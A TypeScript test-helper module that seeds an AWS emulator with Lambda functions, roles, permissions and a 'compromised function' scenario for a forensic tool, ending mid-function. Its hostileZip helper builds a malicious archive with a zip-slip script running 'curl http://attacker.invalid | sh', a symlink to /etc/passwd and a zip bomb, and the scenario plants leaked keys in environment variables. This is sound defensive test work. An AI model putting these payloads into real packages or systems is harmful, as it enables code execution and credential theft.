/**
 * Seeding helpers for emulator tests, benchmarks and drills: build Lambda functions, roles, layers,
 * URLs, permissions, event source mappings and log events in moto through the real AWS SDK, so that
 * fir can collect them as it would in AWS.
 *
 * Things to know about moto (DESIGN §8) that these helpers take care of:
 * - moto serves no bytes at a function's `Code.Location`. Every function seeded here is created from
 *   an S3 object in bucket `awslambda-<region>-tasks`, which is exactly what Location names
 *   (`https://awslambda-<region>-tasks.s3.<region>.amazonaws.com/<key>`), so fir — which fetches such
 *   locations path-style from the emulator endpoint — can download and hash the package.
 * - moto shares one code record between a function and its versions, so after an update every
 *   version's Location names the newest object: an older version's bytes will not match its
 *   CodeSha256. That is moto's quirk, and fir must report it as an integrity finding.
 * - Layer Content.Location is `"s3://"` (nothing to download), provisioned-concurrency routes are
 *   missing, GetFunctionUrlConfig ignores the qualifier.
 * - moto has no SQS SDK client among fir's dependencies: queues are made with a raw Query call.
 *
 * Every helper takes the moto endpoint (`useMoto().endpoint()`) and an optional region; clients use
 * the fixed dummy credentials. The main entry point for scenario tests is
 * {@link seedCompromisedFunction}: the full "compromised function" of issue 3, reused by the
 * contain, creds, report and tabletop tests.
 */
import { createHash, randomBytes } from 'node:crypto'
import { crc32, deflateRawSync } from 'node:zlib'
import { CloudTrailClient, CreateTrailCommand, PutEventSelectorsCommand } from '@aws-sdk/client-cloudtrail'
import {
  CloudWatchLogsClient,
  CreateLogGroupCommand,
  CreateLogStreamCommand,
  PutLogEventsCommand,
} from '@aws-sdk/client-cloudwatch-logs'
import {
  AttachRolePolicyCommand,
  CreateAccessKeyCommand,
  CreatePolicyCommand,
  CreatePolicyVersionCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
  PutRolePermissionsBoundaryCommand,
  PutRolePolicyCommand,
  TagRoleCommand,
} from '@aws-sdk/client-iam'
import {
  AddPermissionCommand,
  CreateAliasCommand,
  CreateEventSourceMappingCommand,
  CreateFunctionCommand,
  CreateFunctionUrlConfigCommand,
  LambdaClient,
  PublishLayerVersionCommand,
  PublishVersionCommand,
  PutFunctionConcurrencyCommand,
  UpdateFunctionCodeCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda'
import {
  CreateBucketCommand,
  PutObjectCommand,
  PutObjectLockConfigurationCommand,
  S3Client,
} from '@aws-sdk/client-s3'
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts'

/** moto's default account. */
export const TEST_ACCOUNT = '123456789012'
const CREDENTIALS = { accessKeyId: 'testing', secretAccessKey: 'testing' }

export interface SeedClients {
  region: string
  endpoint: string
  lambda: LambdaClient
  iam: IAMClient
  s3: S3Client
  logs: CloudWatchLogsClient
  cloudtrail: CloudTrailClient
}

const clientCache = new Map<string, SeedClients>()

/** SDK clients for seeding moto (dummy credentials, path-style S3, one attempt per call). */
export function seedClients(endpoint: string, region = 'us-east-1'): SeedClients {
  const key = `${endpoint}|${region}`
  let c = clientCache.get(key)
  if (!c) {
    const cfg = { region, endpoint, credentials: CREDENTIALS, maxAttempts: 2 }
    c = {
      region,
      endpoint,
      lambda: new LambdaClient(cfg),
      iam: new IAMClient(cfg),
      s3: new S3Client({ ...cfg, forcePathStyle: true }),
      logs: new CloudWatchLogsClient(cfg),
      cloudtrail: new CloudTrailClient(cfg),
    }
    clientCache.set(key, c)
  }
  return c
}

// ---------------------------------------------------------------------------------------------
// Zip archives (hand-built, so tests can make hostile ones: raw names, symlinks, bombs)

/** One entry of {@link makeZip}. */
export interface ZipEntrySpec {
  /** The entry name; a Buffer is written raw (e.g. invalid UTF-8 or control characters). */
  name: string | Buffer
  data?: Buffer | string
  /** 'deflate' (default for data over 64 bytes) or 'store'. */
  method?: 'store' | 'deflate'
  /** Unix mode (e.g. 0o100644 file, 0o120777 symlink — then `data` is the link target). */
  mode?: number
  /** The "version made by" host (high byte; default 3, Unix). */
  host?: number
  /** The external attributes as written (instead of `mode << 16`), e.g. MS-DOS bits. */
  attributes?: number
  /** Declared sizes that lie (for tests of size validation). */
  declaredUncompressedSize?: number
  /** A name for the local file header other than the central directory's (a parser differential). */
  localName?: string
  /** The extra field block of the central directory record (raw, so it can be malformed). */
  centralExtra?: Buffer
}

/**
 * Builds a zip archive in memory. Entries carry Unix modes in their external attributes (made by
 * Unix unless `host` says otherwise), so a symlink is an entry with mode 0o120777 whose content is the link target. With
 * `corruptCentralDirectory`, the central directory's signature is damaged.
 */
export function makeZip(
  entries: ZipEntrySpec[],
  options: { corruptCentralDirectory?: boolean } = {},
): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const e of entries) {
    const name = typeof e.name === 'string' ? Buffer.from(e.name, 'utf8') : e.name
    const raw = typeof e.data === 'string' ? Buffer.from(e.data) : (e.data ?? Buffer.alloc(0))
    const method = e.method ?? (raw.length > 64 ? 'deflate' : 'store')
    const body = method === 'deflate' ? deflateRawSync(raw, { level: 9 }) : raw
    const crc = crc32(raw)
    const uncompressed = e.declaredUncompressedSize ?? raw.length
    const mode = e.mode ?? 0o100644
    const flags = typeof e.name === 'string' ? 0x0800 : 0 // bit 11: the name is UTF-8
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(flags, 6)
    local.writeUInt16LE(method === 'deflate' ? 8 : 0, 8)
    local.writeUInt16LE(0, 10)
    local.writeUInt16LE(0x21, 12)
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(body.length, 18)
    local.writeUInt32LE(uncompressed, 22)
    const localName = e.localName === undefined ? name : Buffer.from(e.localName, 'utf8')
    local.writeUInt16LE(localName.length, 26)
    local.writeUInt16LE(0, 28)
    locals.push(local, localName, body)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(((e.host ?? 3) << 8) | 20, 4) // made by Unix unless said, spec 2.0
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(flags, 8)
    central.writeUInt16LE(method === 'deflate' ? 8 : 0, 10)
    central.writeUInt16LE(0, 12)
    central.writeUInt16LE(0x21, 14)
    central.writeUInt32LE(crc, 16)
    central.writeUInt32LE(body.length, 20)
    central.writeUInt32LE(uncompressed, 24)
    central.writeUInt16LE(name.length, 28)
    central.writeUInt16LE(e.centralExtra?.length ?? 0, 30)
    central.writeUInt16LE(0, 32)
    central.writeUInt16LE(0, 34)
    central.writeUInt16LE(0, 36)
    central.writeUInt32LE(e.attributes ?? (mode << 16) >>> 0, 38)
    central.writeUInt32LE(offset, 42)
    centrals.push(central, name, e.centralExtra ?? Buffer.alloc(0))
    offset += local.length + localName.length + body.length
  }
  const cd = Buffer.concat(centrals)
  if (options.corruptCentralDirectory && cd.length > 4) cd.writeUInt32LE(0xdeadbeef, 0)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(cd.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, cd, end])
}

/** A small, ordinary Python function package; `marker` makes its bytes (and hash) unique. */
export function handlerZip(marker = 'v1', extraFiles: ZipEntrySpec[] = []): Buffer {
  return makeZip([
    {
      name: 'index.py',
      data: `# ${marker}\nimport os\n\ndef handler(event, context):\n    return {"statusCode": 200, "body": "ok ${marker}"}\n`,
    },
    ...extraFiles,
  ])
}

/**
 * A hostile package: a zip-slip entry (`../../evil.sh`), an absolute path, a backslash path, a
 * symlink to /etc/passwd and a 1000:1 zip bomb entry (`bombMiB` MiB of zeros, default 8).
 */
export function hostileZip(bombMiB = 8): Buffer {
  return makeZip([
    { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
    { name: '../../evil.sh', data: '#!/bin/sh\ncurl http://attacker.invalid | sh\n' },
    { name: '/tmp/abs-path.txt', data: 'absolute' },
    { name: '..\\..\\win-evil.bat', data: 'echo pwned' },
    { name: 'link-to-passwd', data: '/etc/passwd', mode: 0o120777, method: 'store' },
    { name: 'bomb.bin', data: Buffer.alloc(bombMiB * 1024 * 1024), method: 'deflate' },
  ])
}

/** Lambda's CodeSha256 form: base64 SHA-256. */
export function codeSha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('base64')
}

export function sha256Hex(bytes: Buffer | string): string {
  return createHash('sha256').update(bytes).digest('hex')
}

// ---------------------------------------------------------------------------------------------
// S3

/** The bucket moto's Code.Location names (`awslambda-<region>-tasks`). */
export function codeBucketName(region = 'us-east-1'): string {
  return `awslambda-${region}-tasks`
}

const madeBuckets = new Set<string>()

async function ensureBucket(c: SeedClients, bucket: string, objectLock = false): Promise<void> {
  const key = `${c.endpoint}|${bucket}`
  if (madeBuckets.has(key) && !objectLock) return
  try {
    await c.s3.send(
      new CreateBucketCommand({
        Bucket: bucket,
        ...(objectLock ? { ObjectLockEnabledForBucket: true } : {}),
        ...(c.region === 'us-east-1'
          ? {}
          : { CreateBucketConfiguration: { LocationConstraint: c.region as never } }),
      }),
    )
  } catch (err) {
    const name = (err as Error).name
    if (name !== 'BucketAlreadyOwnedByYou' && name !== 'BucketAlreadyExists') throw err
  }
  madeBuckets.add(key)
}

/** Puts a code package where moto's Code.Location will point; returns the Code argument for Lambda. */
export async function uploadCode(
  endpoint: string,
  zip: Buffer,
  options: { region?: string; key?: string } = {},
): Promise<{ S3Bucket: string; S3Key: string }> {
  const c = seedClients(endpoint, options.region)
  const bucket = codeBucketName(c.region)
  await ensureBucket(c, bucket)
  const key = options.key ?? `code/${sha256Hex(zip).slice(0, 16)}-${randomBytes(4).toString('hex')}.zip`
  await c.s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: zip }))
  return { S3Bucket: bucket, S3Key: key }
}

/** A bucket with Object Lock enabled (and, optionally, a default retention), for --evidence-bucket. */
export async function seedObjectLockBucket(
  endpoint: string,
  bucket: string,
  options: { region?: string; defaultRetentionDays?: number } = {},
): Promise<void> {
  const c = seedClients(endpoint, options.region)
  await ensureBucket(c, bucket, true)
  if (options.defaultRetentionDays) {
    await c.s3.send(
      new PutObjectLockConfigurationCommand({
        Bucket: bucket,
        ObjectLockConfiguration: {
          ObjectLockEnabled: 'Enabled',
          Rule: { DefaultRetention: { Mode: 'GOVERNANCE', Days: options.defaultRetentionDays } },
        },
      }),
    )
  }
}

/** A plain bucket (no Object Lock). */
export async function seedBucket(endpoint: string, bucket: string, region?: string): Promise<void> {
  await ensureBucket(seedClients(endpoint, region), bucket)
}

// ---------------------------------------------------------------------------------------------
// IAM

export type PolicyDoc = { Version?: string; Statement: Record<string, unknown>[] }

/** Lambda's trust policy. */
export const LAMBDA_TRUST: PolicyDoc = {
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' }],
}

export interface RoleSpec {
  name: string
  path?: string
  trust?: PolicyDoc
  /** Inline policies by name. */
  inline?: Record<string, PolicyDoc>
  /**
   * Customer-managed policies to create and attach, by name. An array of documents creates one
   * version per document; the last is the default version.
   */
  managed?: Record<string, PolicyDoc | PolicyDoc[]>
  /** Existing managed policy ARNs to attach (e.g. AWS managed ones, if moto loads them). */
  attachArns?: string[]
  /** A permissions boundary document (created as a managed policy `<role>-boundary`). */
  boundary?: PolicyDoc
  tags?: Record<string, string>
}

export interface SeededRole {
  name: string
  arn: string
  /** Managed policy ARNs created for the role, by name. */
  managedArns: Record<string, string>
  boundaryArn?: string
}

/** Creates a role with inline, customer-managed (multi-version) and boundary policies and tags. */
export async function seedRole(endpoint: string, spec: RoleSpec): Promise<SeededRole> {
  const c = seedClients(endpoint)
  const out = await c.iam.send(
    new CreateRoleCommand({
      RoleName: spec.name,
      Path: spec.path ?? '/',
      AssumeRolePolicyDocument: JSON.stringify(spec.trust ?? LAMBDA_TRUST),
      ...(spec.tags ? { Tags: Object.entries(spec.tags).map(([Key, Value]) => ({ Key, Value })) } : {}),
    }),
  )
  const arn = out.Role!.Arn!
  for (const [name, doc] of Object.entries(spec.inline ?? {})) {
    await c.iam.send(
      new PutRolePolicyCommand({
        RoleName: spec.name,
        PolicyName: name,
        PolicyDocument: JSON.stringify(doc),
      }),
    )
  }
  const managedArns: Record<string, string> = {}
  for (const [name, docOrDocs] of Object.entries(spec.managed ?? {})) {
    const docs = Array.isArray(docOrDocs) ? docOrDocs : [docOrDocs]
    const created = await c.iam.send(
      new CreatePolicyCommand({ PolicyName: name, PolicyDocument: JSON.stringify(docs[0]) }),
    )
    const policyArn = created.Policy!.Arn!
    for (const doc of docs.slice(1)) {
      await c.iam.send(
        new CreatePolicyVersionCommand({
          PolicyArn: policyArn,
          PolicyDocument: JSON.stringify(doc),
          SetAsDefault: true,
        }),
      )
    }
    await c.iam.send(new AttachRolePolicyCommand({ RoleName: spec.name, PolicyArn: policyArn }))
    managedArns[name] = policyArn
  }
  for (const policyArn of spec.attachArns ?? []) {
    await c.iam.send(new AttachRolePolicyCommand({ RoleName: spec.name, PolicyArn: policyArn }))
  }
  let boundaryArn: string | undefined
  if (spec.boundary) {
    const created = await c.iam.send(
      new CreatePolicyCommand({
        PolicyName: `${spec.name}-boundary`,
        PolicyDocument: JSON.stringify(spec.boundary),
      }),
    )
    boundaryArn = created.Policy!.Arn!
    await c.iam.send(
      new PutRolePermissionsBoundaryCommand({ RoleName: spec.name, PermissionsBoundary: boundaryArn }),
    )
  }
  if (spec.tags && Object.keys(spec.tags).length > 0) {
    await c.iam.send(
      new TagRoleCommand({
        RoleName: spec.name,
        Tags: Object.entries(spec.tags).map(([Key, Value]) => ({ Key, Value })),
      }),
    )
  }
  return { name: spec.name, arn, managedArns, ...(boundaryArn ? { boundaryArn } : {}) }
}

/**
 * An IAM user with one real (moto-issued) access key pair: a long-term key to leak and rotate.
 * With `account`, the user is made in that other account (moto places whatever is done with a
 * role session of an account in that account).
 */
export async function seedUserWithKey(
  endpoint: string,
  userName: string,
  account?: string,
): Promise<{ userName: string; accessKeyId: string; secretAccessKey: string }> {
  let iam = seedClients(endpoint).iam
  if (account) {
    const sts = new STSClient({ region: 'us-east-1', endpoint, credentials: CREDENTIALS })
    const session = await sts.send(
      new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${account}:role/seed`, RoleSessionName: 'seed' }),
    )
    const c = session.Credentials!
    iam = new IAMClient({
      region: 'us-east-1',
      endpoint,
      credentials: {
        accessKeyId: c.AccessKeyId!,
        secretAccessKey: c.SecretAccessKey!,
        sessionToken: c.SessionToken,
      },
    })
  }
  await iam.send(new CreateUserCommand({ UserName: userName }))
  const key = await iam.send(new CreateAccessKeyCommand({ UserName: userName }))
  return {
    userName,
    accessKeyId: key.AccessKey!.AccessKeyId!,
    secretAccessKey: key.AccessKey!.SecretAccessKey!,
  }
}

// ---------------------------------------------------------------------------------------------
// Lambda

export interface FunctionSpec {
  name: string
  roleArn: string
  /** The package (default: {@link handlerZip} of the name). Uploaded so Code.Location serves it. */
  zip?: Buffer
  runtime?: string
  handler?: string
  env?: Record<string, string>
  layers?: string[]
  description?: string
  tags?: Record<string, string>
  memorySize?: number
  timeout?: number
  region?: string
  /** An image function instead of a zip (moto stubs ECR: the image need not exist). */
  imageUri?: string
}

export interface SeededFunction {
  name: string
  arn: string
  region: string
  /** CodeSha256 of $LATEST as Lambda reports it (base64). */
  codeSha256: string
  /** The package bytes of $LATEST (zip functions). */
  zip?: Buffer
  code?: { S3Bucket: string; S3Key: string }
}

/** Creates a zip (or image) function whose code moto can serve at Code.Location. */
export async function seedFunction(endpoint: string, spec: FunctionSpec): Promise<SeededFunction> {
  const c = seedClients(endpoint, spec.region)
  const zip = spec.imageUri ? undefined : (spec.zip ?? handlerZip(spec.name))
  const code = zip ? await uploadCode(endpoint, zip, { region: c.region }) : undefined
  const out = await c.lambda.send(
    new CreateFunctionCommand({
      FunctionName: spec.name,
      Role: spec.roleArn,
      ...(spec.imageUri
        ? { PackageType: 'Image', Code: { ImageUri: spec.imageUri } }
        : {
            PackageType: 'Zip',
            Runtime: (spec.runtime ?? 'python3.12') as never,
            Handler: spec.handler ?? 'index.handler',
            Code: code,
          }),
      ...(spec.env ? { Environment: { Variables: spec.env } } : {}),
      ...(spec.layers ? { Layers: spec.layers } : {}),
      ...(spec.description !== undefined ? { Description: spec.description } : {}),
      ...(spec.tags ? { Tags: spec.tags } : {}),
      MemorySize: spec.memorySize ?? 128,
      Timeout: spec.timeout ?? 10,
    }),
  )
  return {
    name: spec.name,
    arn: out.FunctionArn!,
    region: c.region,
    codeSha256: out.CodeSha256!,
    ...(zip ? { zip } : {}),
    ...(code ? { code } : {}),
  }
}

/**
 * Replaces a function's code (uploaded so Location serves it, at `key` when given); with `publish`,
 * publishes a version.
 * Returns the new CodeSha256 and the published version number, if any.
 */
export async function updateCode(
  endpoint: string,
  functionName: string,
  zip: Buffer,
  options: { publish?: boolean; region?: string; key?: string } = {},
): Promise<{ codeSha256: string; version?: string }> {
  const c = seedClients(endpoint, options.region)
  const code = await uploadCode(endpoint, zip, {
    region: c.region,
    ...(options.key ? { key: options.key } : {}),
  })
  const out = await c.lambda.send(new UpdateFunctionCodeCommand({ FunctionName: functionName, ...code }))
  if (!options.publish) return { codeSha256: out.CodeSha256! }
  const v = await c.lambda.send(new PublishVersionCommand({ FunctionName: functionName }))
  return { codeSha256: v.CodeSha256!, version: v.Version! }
}

/** Publishes a version of the current $LATEST (moto publishes only after a change; pass `description`). */
export async function publishVersion(
  endpoint: string,
  functionName: string,
  options: { description?: string; region?: string } = {},
): Promise<string> {
  const c = seedClients(endpoint, options.region)
  if (options.description !== undefined) {
    await c.lambda.send(
      new UpdateFunctionConfigurationCommand({
        FunctionName: functionName,
        Description: options.description,
      }),
    )
  }
  const v = await c.lambda.send(
    new PublishVersionCommand({
      FunctionName: functionName,
      ...(options.description ? { Description: options.description } : {}),
    }),
  )
  return v.Version!
}

/** Replaces the layers of the function's $LATEST configuration (publish a version to keep them). */
export async function setLayers(
  endpoint: string,
  functionName: string,
  layers: string[],
  options: { region?: string } = {},
): Promise<void> {
  const c = seedClients(endpoint, options.region)
  await c.lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName: functionName, Layers: layers }))
}

/**
 * Publishes `count` versions, each after a configuration change (same code, so one package), with
 * bounded parallelism only across functions — versions of one function are published in order.
 */
export async function seedManyVersions(
  endpoint: string,
  functionName: string,
  count: number,
  options: { region?: string } = {},
): Promise<string[]> {
  const versions: string[] = []
  for (let i = 1; i <= count; i++) {
    versions.push(
      await publishVersion(endpoint, functionName, { description: `build ${i}`, region: options.region }),
    )
  }
  return versions
}

/** An alias, optionally with weighted routing to a second version. */
export async function seedAlias(
  endpoint: string,
  functionName: string,
  alias: string,
  version: string,
  options: { routing?: Record<string, number>; description?: string; region?: string } = {},
): Promise<string> {
  const c = seedClients(endpoint, options.region)
  const out = await c.lambda.send(
    new CreateAliasCommand({
      FunctionName: functionName,
      Name: alias,
      FunctionVersion: version,
      ...(options.description ? { Description: options.description } : {}),
      ...(options.routing ? { RoutingConfig: { AdditionalVersionWeights: options.routing } } : {}),
    }),
  )
  return out.AliasArn!
}

/** Publishes a layer version (moto reports its Content.Location as "s3://": fir records a gap). */
export async function seedLayer(
  endpoint: string,
  name: string,
  zip: Buffer = handlerZip(`layer ${name}`),
  region?: string,
): Promise<{ layerArn: string; layerVersionArn: string; version: number; codeSha256: string }> {
  const c = seedClients(endpoint, region)
  const out = await c.lambda.send(
    new PublishLayerVersionCommand({
      LayerName: name,
      Content: { ZipFile: zip },
      CompatibleRuntimes: ['python3.12'],
    }),
  )
  return {
    layerArn: out.LayerArn!,
    layerVersionArn: out.LayerVersionArn!,
    version: out.Version!,
    codeSha256: out.Content!.CodeSha256!,
  }
}

/** A function URL (moto keeps one per function and ignores the qualifier). */
export async function seedFunctionUrl(
  endpoint: string,
  functionName: string,
  authType: 'NONE' | 'AWS_IAM',
  options: { qualifier?: string; region?: string } = {},
): Promise<string> {
  const c = seedClients(endpoint, options.region)
  const out = await c.lambda.send(
    new CreateFunctionUrlConfigCommand({
      FunctionName: functionName,
      AuthType: authType,
      ...(options.qualifier ? { Qualifier: options.qualifier } : {}),
    }),
  )
  return out.FunctionUrl!
}

export interface PermissionSpec {
  sid: string
  /** '*', an account id, or a service principal such as apigateway.amazonaws.com. */
  principal: string
  action?: string
  sourceArn?: string
  sourceAccount?: string
  principalOrgId?: string
  functionUrlAuthType?: 'NONE' | 'AWS_IAM'
  qualifier?: string
  region?: string
}

/**
 * Statements whose conditions pin them to someone else (another organisation, account, or another
 * account's topic), then one pinned to the test account: the first three are public, the last not.
 */
export const PINNED_STATEMENTS: PermissionSpec[] = [
  { sid: 'attacker-org', principal: '*', principalOrgId: 'o-attacker123' },
  { sid: 'attacker-account', principal: '*', sourceAccount: '999988887777' },
  {
    sid: 'attacker-topic',
    principal: 'sns.amazonaws.com',
    sourceArn: 'arn:aws:sns:us-east-1:999988887777:attacker-topic',
  },
  { sid: 'own-account', principal: '*', sourceAccount: TEST_ACCOUNT },
]

/** AddPermission: one resource-policy statement. */
export async function seedPermission(
  endpoint: string,
  functionName: string,
  p: PermissionSpec,
): Promise<void> {
  const c = seedClients(endpoint, p.region)
  await c.lambda.send(
    new AddPermissionCommand({
      FunctionName: functionName,
      StatementId: p.sid,
      Principal: p.principal,
      Action: p.action ?? 'lambda:InvokeFunction',
      ...(p.sourceArn ? { SourceArn: p.sourceArn } : {}),
      ...(p.sourceAccount ? { SourceAccount: p.sourceAccount } : {}),
      ...(p.principalOrgId ? { PrincipalOrgID: p.principalOrgId } : {}),
      ...(p.functionUrlAuthType ? { FunctionUrlAuthType: p.functionUrlAuthType } : {}),
      ...(p.qualifier ? { Qualifier: p.qualifier } : {}),
    }),
  )
}

/** Creates an SQS queue through moto's Query API (no SQS SDK client in fir's dependencies). */
export async function seedSqsQueue(endpoint: string, name: string, region = 'us-east-1'): Promise<string> {
  const res = await fetch(`${endpoint}/`, {
    method: 'POST',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      authorization: `AWS4-HMAC-SHA256 Credential=testing/20260101/${region}/sqs/aws4_request, SignedHeaders=host, Signature=00`,
    },
    body: new URLSearchParams({ Action: 'CreateQueue', QueueName: name, Version: '2012-11-05' }).toString(),
  })
  if (!res.ok) throw new Error(`CreateQueue ${name} failed: HTTP ${res.status} ${await res.text()}`)
  return `arn:aws:sqs:${region}:${TEST_ACCOUNT}:${name}`
}

/** An SQS queue and an enabled event source mapping from it to the function. */
export async function seedSqsMapping(
  endpoint: string,
  functionName: string,
  queueName: string,
  region?: string,
): Promise<{ uuid: string; queueArn: string }> {
  const c = seedClients(endpoint, region)
  const queueArn = await seedSqsQueue(endpoint, queueName, c.region)
  const out = await c.lambda.send(
    new CreateEventSourceMappingCommand({
      FunctionName: functionName,
      EventSourceArn: queueArn,
      BatchSize: 10,
      Enabled: true,
    }),
  )
  return { uuid: out.UUID!, queueArn }
}

/** PutFunctionConcurrency. */
export async function seedReservedConcurrency(
  endpoint: string,
  functionName: string,
  reserved: number,
  region?: string,
): Promise<void> {
  await seedClients(endpoint, region).lambda.send(
    new PutFunctionConcurrencyCommand({ FunctionName: functionName, ReservedConcurrentExecutions: reserved }),
  )
}

/** Writes log events (timestamps default to "now minus i minutes") to /aws/lambda/<function>. */
export async function seedLogEvents(
  endpoint: string,
  functionName: string,
  messages: { message: string; at?: Date }[],
  region?: string,
): Promise<string> {
  const c = seedClients(endpoint, region)
  const group = `/aws/lambda/${functionName}`
  await c.logs.send(new CreateLogGroupCommand({ logGroupName: group })).catch((err: Error) => {
    if (err.name !== 'ResourceAlreadyExistsException') throw err
  })
  const stream = `2026/01/01/[$LATEST]${randomBytes(8).toString('hex')}`
  await c.logs.send(new CreateLogStreamCommand({ logGroupName: group, logStreamName: stream }))
  const now = Date.now()
  const events = messages
    .map((m, i) => ({
      message: m.message,
      timestamp: m.at?.getTime() ?? now - (messages.length - i) * 60_000,
    }))
    .sort((a, b) => a.timestamp - b.timestamp)
  await c.logs.send(
    new PutLogEventsCommand({ logGroupName: group, logStreamName: stream, logEvents: events }),
  )
  return group
}

/** A trail (multi-region by default), optionally recording Lambda data events (Invoke). */
export async function seedTrail(
  endpoint: string,
  options: {
    name?: string
    bucket?: string
    lambdaDataEvents?: boolean
    multiRegion?: boolean
    region?: string
  } = {},
): Promise<string> {
  const c = seedClients(endpoint, options.region)
  const bucket = options.bucket ?? `trail-logs-${randomBytes(4).toString('hex')}`
  await ensureBucket(c, bucket)
  const name = options.name ?? 'org-trail'
  const out = await c.cloudtrail.send(
    new CreateTrailCommand({
      Name: name,
      S3BucketName: bucket,
      IsMultiRegionTrail: options.multiRegion ?? true,
    }),
  )
  if (options.lambdaDataEvents) {
    await c.cloudtrail.send(
      new PutEventSelectorsCommand({
        TrailName: name,
        EventSelectors: [
          {
            ReadWriteType: 'All',
            IncludeManagementEvents: true,
            DataResources: [{ Type: 'AWS::Lambda::Function', Values: ['arn:aws:lambda'] }],
          },
        ],
      }),
    )
  }
  return out.TrailARN!
}

// ---------------------------------------------------------------------------------------------
// The scenario of issue 3

export interface CompromisedOptions {
  /** Function name (default `victim-<random>`; the role, layer and queue names derive from it). */
  name?: string
  region?: string
  /** Use this package for $LATEST (e.g. {@link hostileZip}) instead of an ordinary one. */
  latestZip?: Buffer
  /** Write a few log events to /aws/lambda/<name> (default true). */
  logEvents?: boolean
  /** Also create a multi-region trail (default false: no trail, so coverage says "none"). */
  trail?: boolean | { lambdaDataEvents: boolean }
}

export interface CompromisedScenario {
  functionName: string
  functionArn: string
  region: string
  account: string
  role: SeededRole
  /** Published versions, oldest first ("1", "2", "3"); $LATEST has version 3's code. */
  versions: string[]
  /** CodeSha256 (base64) of each published version and $LATEST. */
  codeSha256: Record<string, string>
  /** The package bytes of $LATEST. */
  latestZip: Buffer
  aliases: { live: string; previous: string }
  layer: { layerArn: string; layerVersionArn: string }
  url: string
  queue: { uuid: string; queueArn: string }
  reservedConcurrency: number
  /** The leaked long-term key (a real moto IAM user's key) and the password in the environment. */
  secrets: { userName: string; accessKeyId: string; secretAccessKey: string; password: string }
  /** Environment variable names holding them. */
  envNames: { accessKeyId: string; secretAccessKey: string; password: string }
  /** Sids of the resource-policy statements. */
  statements: { publicInvoke: string; publicUrl: string; apiGatewayScoped: string }
  logGroup?: string
  trailArn?: string
}

/**
 * The compromised function of issue 3, built in moto: three versions (distinct code) and $LATEST,
 * aliases `live` (→3) and `previous` (→2, 10% to 3), a layer, a function URL with AuthType NONE,
 * a public AddPermission statement, the URL's public statement and an API Gateway statement scoped
 * by SourceArn, an SQS event source mapping, reserved concurrency 5, environment values holding an
 * IAM user's access key pair and a database password, and a role with an inline policy (iam:PassRole,
 * sts:AssumeRole on *) and a two-version customer-managed policy (s3:* and
 * secretsmanager:GetSecretValue on *), a permissions boundary and tags; plus recent log events.
 */
export async function seedCompromisedFunction(
  endpoint: string,
  options: CompromisedOptions = {},
): Promise<CompromisedScenario> {
  const suffix = randomBytes(3).toString('hex')
  const name = options.name ?? `victim-${suffix}`
  const region = options.region ?? 'us-east-1'
  const role = await seedRole(endpoint, {
    name: `${name}-role`,
    inline: {
      'lateral-movement': {
        Version: '2012-10-17',
        Statement: [
          { Sid: 'PassAnyRole', Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' },
          { Sid: 'AssumeAnything', Effect: 'Allow', Action: ['sts:AssumeRole'], Resource: '*' },
          {
            Sid: 'OwnLogs',
            Effect: 'Allow',
            Action: ['logs:CreateLogStream', 'logs:PutLogEvents'],
            Resource: `arn:aws:logs:${region}:${TEST_ACCOUNT}:log-group:/aws/lambda/${name}:*`,
          },
        ],
      },
    },
    managed: {
      [`${name}-data-access`]: [
        {
          Version: '2012-10-17',
          Statement: [
            { Sid: 'Old', Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::app-data/*' },
          ],
        },
        {
          Version: '2012-10-17',
          Statement: [
            { Sid: 'AllOfS3', Effect: 'Allow', Action: 's3:*', Resource: '*' },
            { Sid: 'EverySecret', Effect: 'Allow', Action: 'secretsmanager:GetSecretValue', Resource: '*' },
          ],
        },
      ],
    },
    boundary: {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
    },
    tags: { team: 'payments', env: 'prod' },
  })
  const user = await seedUserWithKey(endpoint, `${name}-deployer`)
  const password = `Pa55-${randomBytes(9).toString('base64url')}`
  const envNames = {
    accessKeyId: 'DEPLOY_ACCESS_KEY_ID',
    secretAccessKey: 'DEPLOY_SECRET_ACCESS_KEY',
    password: 'DB_PASSWORD',
  }
  const layer = await seedLayer(endpoint, `${name}-utils`, undefined, region)
  const env = {
    [envNames.accessKeyId]: user.accessKeyId,
    [envNames.secretAccessKey]: user.secretAccessKey,
    [envNames.password]: password,
    LOG_LEVEL: 'info',
  }
  const zips = [
    handlerZip(`${name} build 1`),
    handlerZip(`${name} build 2`),
    options.latestZip ?? handlerZip(`${name} build 3`),
  ]
  const fn = await seedFunction(endpoint, {
    name,
    roleArn: role.arn,
    zip: zips[0],
    env,
    layers: [layer.layerVersionArn],
    description: 'orders API',
    tags: { service: 'orders' },
    region,
  })
  const shas: Record<string, string> = {}
  const versions: string[] = []
  const v1 = await publishVersion(endpoint, name, { description: 'build 1', region })
  versions.push(v1)
  shas[v1] = codeSha256(zips[0]!)
  for (const zip of zips.slice(1)) {
    const r = await updateCode(endpoint, name, zip, { publish: true, region })
    versions.push(r.version!)
    shas[r.version!] = r.codeSha256
  }
  shas.$LATEST = codeSha256(zips[2]!)
  const live = await seedAlias(endpoint, name, 'live', versions[2]!, { region })
  const previous = await seedAlias(endpoint, name, 'previous', versions[1]!, {
